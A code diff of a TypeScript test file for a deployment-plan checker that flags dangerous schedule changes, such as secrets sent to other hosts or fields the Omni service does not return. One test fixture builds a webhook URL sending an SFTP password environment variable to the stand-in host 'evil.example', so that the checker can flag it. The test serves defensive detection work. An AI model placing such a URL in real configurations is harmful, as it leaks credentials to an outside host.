@@ -2,14 +2,15 @@
 // that is lost. What a reviewer must see first is found in the plan, all declarations and the state, and opens every report.
 
 import { describe, expect, test } from 'vitest';
-import type { StateResource } from '../../src/model/plan/state.ts';
+import type { Change } from '../../src/model/plan/plan.ts';
+import type { State, StateResource } from '../../src/model/plan/state.ts';
 import type { RecordedGroup } from '../../src/model/plan/user-groups.ts';
 import type { Json, JsonObject } from '../../src/model/values/json.ts';
 import { sensitive } from '../../src/model/values/secret.ts';
 import { findDangers } from '../../src/plan/dangers/find-dangers.ts';
-import { declare, plan, secret, stateOf } from '../support/plan/planning.ts';
+import { at, declare, plan, secret, stateOf, stepsOf } from '../support/plan/planning.ts';
 import { type Asked, dangersOf, found, internalDomains, server } from '../support/security/dangers.ts';
-import { aiJob, bucket, dashboard, hook, mail, slack } from '../support/vocabulary.ts';
+import { aiJob, bucket, dashboard, hook, mail, routine, slack } from '../support/vocabulary.ts';
 
 const to = (...recipients: readonly string[]) => mail({ recipients });
 const mine = (fields: JsonObject = {}) => mail({ recipients: ['a@acme.com'], ...fields });
@@ -337,9 +338,8 @@ test('a secret that goes to another server is a danger, and one whose path alone
 test('a variable that another schedule takes to another host is a grave danger', () => {
   const state = stateOf({ 'schedules.a': server(host, password) });
   const { plan: created } = plan(declare({ 'schedules.b': hook({ url: 'https://evil.example/' }) }), undefined);
-  const change = { ...created.changes[0], after: hook({ url: 'https://evil.example/${env.SFTP_PASSWORD}' }) };
-  const { plan: empty } = plan(declare({}), undefined);
-  const dangers = findDangers({ ...empty, changes: [change as never] }, { state, internalDomains });
+  const change = { ...created.changes[0], after: hook({ url: 'https://evil.example/${env.SFTP_PASSWORD}' }) } as Change;
+  const dangers = findDangers({ plan: created, steps: stepsOf([change]) }, { state, internalDomains });
   expect(dangers.find(({ code }) => code === 'secret-elsewhere')).toMatchObject({
     gravity: 'grave',
     items: [
@@ -365,6 +365,34 @@ test('a field that Omni does not return is a danger at the first update that sen
   expect(itemsFor({ 'schedules.a': changed, 'schedules.b': changed })).toEqual([
     { subject: 'subject', detail: '2 schedules: sets subject, which Omni does not return' },
   ]);
+});
+
+describe('a field that Omni does not return is a danger of what sends the whole schedule', () => {
+  const lost = { address: 'schedules.a', action: 'update', since: at } as const;
+  const groups = (...userGroups: readonly string[]) => mine({ userGroups });
+
+  test.each<[string, JsonObject, JsonObject, readonly string[], Partial<State>?]>([
+    ['a change of its user groups sends no field', groups('Sales'), groups('Board'), []],
+    ['a pause sends no field', mine({ paused: true }), mine(), []],
+    ['a transfer sends no field', mine({ owner: 'a@acme.com' }), mine(), []],
+    [
+      'an update whose answer was lost is sent again',
+      mine(),
+      mine(),
+      ['subject'],
+      { unresolved: [{ ...lost, attributes: mine({ name: 'Other' }) }] },
+    ],
+    ['another name is sent with all others', mine({ name: 'Other' }), mine(), ['subject']],
+  ])('%s', (_, after, before, expected, rest = {}) => {
+    const state = { ...unreadState({ 'schedules.a': before }, ['subject']), ...rest };
+    const unread = dangersOf({ 'schedules.a': after }, state).filter(({ code }) => code === 'unread');
+    expect(unread.flatMap(({ items }) => items.map(({ subject }) => subject))).toEqual(expected);
+  });
+
+  test('a routine is patched, and a patch sends no field that did not change', () => {
+    const before = unreadState({ 'routines.r': routine() }, ['description']);
+    expect(dangersOf({ 'routines.r': routine({ name: 'Other' }) }, before)).toEqual([]);
+  });
 });
 
 describe('a filter that may be that of the dashboard', () => {
@@ -487,6 +515,12 @@ describe('an update that may remove the password', () => {
       expect(reported).toEqual(isReported ? [expected] : []);
     },
   );
+
+  test('a test delivery leaves nothing without a password', () => {
+    const ran = { id: undefined, attributes: server(host, { ...password, testNow: true }) };
+    const state = stateOf({ 'schedules.a': ran });
+    expect(dangersOf({ 'schedules.a': server(host, { testNow: true }) }, state)).toEqual([]);
+  });
 
   test('a password that may be removed is not also a warning that it may stay, as another field may', () => {
     const before = stateOf({ 'schedules.a': server(host, { ...password, queryIdentifierMapKey: '1' }) });
